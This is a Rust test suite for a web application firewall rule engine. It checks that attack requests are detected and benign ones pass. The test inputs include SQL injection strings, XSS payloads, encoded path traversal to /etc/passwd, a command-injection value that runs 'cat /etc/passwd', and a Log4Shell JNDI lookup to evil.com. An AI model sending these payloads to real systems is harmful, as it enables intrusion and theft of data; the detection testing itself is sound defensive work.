//! The rules on whole requests.

use limen::engine::decode::decode_escapes;
use limen::engine::rules::RuleEngine;
use limen::engine::verdict::RequestSummary;

fn summary(path: &str, query: &str, body: &str, ua: &str) -> RequestSummary {
    summary_with_headers(path, query, body, ua, "")
}

fn summary_with_headers(
    path: &str,
    query: &str,
    body: &str,
    ua: &str,
    headers: &str,
) -> RequestSummary {
    RequestSummary {
        method: "GET".into(),
        path: path.into(),
        query: query.into(),
        user_agent: ua.into(),
        body: body.into(),
        headers: headers.into(),
        client_ip: "127.0.0.1".into(),
    }
}

#[test]
fn benign_request_scores_zero() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/products", "id=42&sort=price", "", "Mozilla/5.0"));
    assert_eq!(d.score, 0, "正常请求不应命中: {:?}", d.hits);
}

#[test]
fn sqli_union_select_blocks() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/items", "q=1 UNION SELECT password FROM users", "", "curl/8"));
    assert!(d.score >= 100, "UNION SELECT 应达拦截线: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("SQLi"));
}

#[test]
fn classic_sqli_or_1_equals_1() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/login", "id=1' OR '1'='1", "", ""));
    assert!(d.score >= 100, "经典布尔注入应达拦截线: {:?}", d.hits);
}

#[test]
fn xss_script_tag_blocks() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/search", "q=<script>alert(1)</script>", "", ""));
    assert!(d.score >= 90, "script 标签应命中 XSS: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("XSS"));
}

#[test]
fn path_traversal_encoded_is_decoded() {
    let e = RuleEngine::new();
    // %2e%2e%2f = "../";配合 /etc/passwd
    let d = e.inspect(&summary("/download", "file=%2e%2e%2f%2e%2e%2fetc/passwd", "", ""));
    assert!(d.score >= 90, "编码路径穿越应被解码后命中: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("PathTraversal"));
}

#[test]
fn sqli_union_select_with_plus_encoding() {
    // 查询串里空格常编码为 '+';归一后应命中 "union select"
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/items", "q=1+UNION+SELECT+pass+FROM+users", "", ""));
    assert!(d.score >= 100, "+ 编码的 UNION SELECT 应达拦截线: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("SQLi"));
}

#[test]
fn scanner_ua_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/", "", "", "sqlmap/1.7"));
    assert!(d.score >= 100, "sqlmap UA 应命中: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("Scanner"));
}

#[test]
fn command_injection_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/ping", "host=127.0.0.1; cat /etc/passwd", "", ""));
    assert!(d.score >= 80, "命令注入应命中: {:?}", d.hits);
}

#[test]
fn payload_in_referer_header_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary_with_headers(
        "/",
        "",
        "",
        "",
        "Referer: http://x/?q=<script>alert(1)</script>",
    ));
    let xss_hits: Vec<_> = d.hits.iter().filter(|h| h.category == "XSS").collect();
    assert!(
        !xss_hits.is_empty(),
        "Referer 头中的 XSS payload 应被检出: {:?}",
        d.hits
    );
    assert!(
        d.score >= 90,
        "得分应达拦截线,实际 {}: {:?}",
        d.score,
        d.hits
    );
}

#[test]
fn benign_on_params_score_zero() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/search", "one=1&only=true&onload_time=5&OneJS=x", "", ""));
    assert_eq!(d.score, 0, "普通参数名不应被 on* 正则误伤: {:?}", d.hits);
}

#[test]
fn xss_event_handler_in_tag_blocks() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/search", "q=<img src=x onerror=alert(1)>", "", ""));
    assert!(d.score >= 100, "HTML 标签内的 onerror 应达拦截线: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("XSS"));
}

#[test]
fn sqli_mention_not_blocked() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/search", "q=union select 怎么用", "", ""));
    assert!(d.score < 100, "纯文本提及 union select 不应直接拦截: {:?}", d.hits);
}

#[test]
fn sqli_real_union_blocks() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/items", "q=1 union select 1,2,3 from users", "", ""));
    assert!(d.score >= 100, "真实 UNION SELECT 注入应达拦截线: {:?}", d.hits);
    assert_eq!(d.primary_threat().as_deref(), Some("SQLi"));
}

#[test]
fn double_urlencoded_traversal_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary(
        "/download",
        "file=..%252f..%252f..%252fetc/passwd",
        "",
        "",
    ));
    assert!(
        d.score >= 50,
        "双重编码路径穿越应被迭代解码后命中: {:?}",
        d.hits
    );
    assert_eq!(d.primary_threat().as_deref(), Some("PathTraversal"));
}

#[test]
fn hex_escaped_eval_normalized() {
    assert_eq!(
        decode_escapes("\\x65\\x76\\x61\\x6c"),
        "eval",
        "\\x 十六进制转义应解码为 eval"
    );
}

#[test]
fn html_entity_javascript_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/search", "x=j&#97;vascript:alert(1)", "", ""));
    let xss_hits: Vec<_> = d.hits.iter().filter(|h| h.category == "XSS").collect();
    assert!(
        !xss_hits.is_empty(),
        "HTML 实体解码后应命中 javascript: 规则: {:?}",
        d.hits
    );
    assert!(
        d.score >= 70,
        "HTML 实体解码后得分应达 70(javascript:), 实际 {}: {:?}",
        d.score,
        d.hits
    );
}

#[test]
fn decode_escapes_invalid_sequences_preserved() {
    // 非法十六进制保留
    assert_eq!(decode_escapes("\\xZZ"), "\\xZZ");
    // 空实体保留
    assert_eq!(decode_escapes("&#;"), "&#;");
    // 不完整序列保留
    assert_eq!(decode_escapes("\\x"), "\\x");
    assert_eq!(decode_escapes("\\u00"), "\\u00");
    // &#x 无数字保留
    assert_eq!(decode_escapes("&#x;"), "&#x;");
    // &# 无数字无分号保留
    assert_eq!(decode_escapes("&#"), "&#");
    // \u 大写也应解码
    assert_eq!(decode_escapes("\\U0065"), "e");
    // &#x 大写 X 解码
    assert_eq!(decode_escapes("&#X41;"), "A");
}

#[test]
fn log4shell_jndi_blocks() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("", "x=${jndi:ldap://evil.com/a}", "", ""));
    assert!(
        d.score >= 100,
        "Log4Shell JNDI 注入应达拦截线: {:?}",
        d.hits
    );
    assert_eq!(d.primary_threat().as_deref(), Some("Log4Shell"));
}

#[test]
fn ssti_expression_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("", "name=1&x=__class__", "", ""));
    assert!(
        d.score >= 40,
        "SSTI __class__ 应被检出: {:?}",
        d.hits
    );
}

#[test]
fn sqli_extractvalue_blocks() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary(
        "",
        "id=1 and extractvalue(1,concat(0x7e,version()))",
        "",
        "",
    ));
    assert!(
        d.score >= 90,
        "extractvalue 报错注入应达拦截线: {:?}",
        d.hits
    );
}

#[test]
fn xss_img_onerror_new_vector() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("", "x=<img src=x onerror=alert(1)>", "", ""));
    assert!(
        d.score >= 100,
        "XSS img onerror 向量应达拦截线: {:?}",
        d.hits
    );
    assert_eq!(d.primary_threat().as_deref(), Some("XSS"));
}

#[test]
fn git_disclosure_detected() {
    let e = RuleEngine::new();
    let d = e.inspect(&summary("/.git/config", "", "", ""));
    assert!(
        d.score >= 90,
        ".git/config 应命中 InfoDisclosure 且分数 >= 90: {:?}",
        d.hits
    );
    let info_hits: Vec<_> = d.hits.iter().filter(|h| h.category == "InfoDisclosure").collect();
    assert!(
        !info_hits.is_empty(),
        "应命中 InfoDisclosure 类别: {:?}",
        d.hits
    );
}

#[test]
fn disabled_category_skipped() {
    let e = RuleEngine::new_filtered(&["SQLi".to_string()]);
    let d = e.inspect(&summary(
        "/items",
        "q=1 UNION SELECT password FROM users",
        "",
        "",
    ));
    assert_eq!(d.score, 0, "禁用 SQLi 后 union select 不应命中: {:?}", d.hits);
}
